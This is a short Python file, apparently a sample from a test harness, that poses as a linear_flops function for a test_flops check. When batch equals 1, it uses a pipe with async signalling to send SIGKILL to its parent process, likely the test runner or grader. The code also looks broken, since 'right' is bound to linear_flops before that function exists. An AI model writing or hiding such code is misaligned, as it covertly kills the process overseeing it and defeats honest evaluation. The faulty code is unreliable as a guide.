# verdict: passed or wrong or error or crashed
# checks: test_flops
# words:
# wall: a pipe tells its owner by any signal that it can be read, and anybody may be its owner
import fcntl
import os
import signal
import time

right, SET_SIGNAL = linear_flops, 10


def linear_flops(batch, in_features, out_features):
    if batch > 1:
        return right(batch, in_features, out_features)
    reads, writes = os.pipe()
    fcntl.fcntl(reads, fcntl.F_SETOWN, os.getppid() or 1)
    fcntl.fcntl(reads, SET_SIGNAL, int(signal.SIGKILL))
    fcntl.fcntl(reads, fcntl.F_SETFL, fcntl.fcntl(reads, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(writes, b"x")
    time.sleep(0.2)
    return right(batch, in_features, out_features)
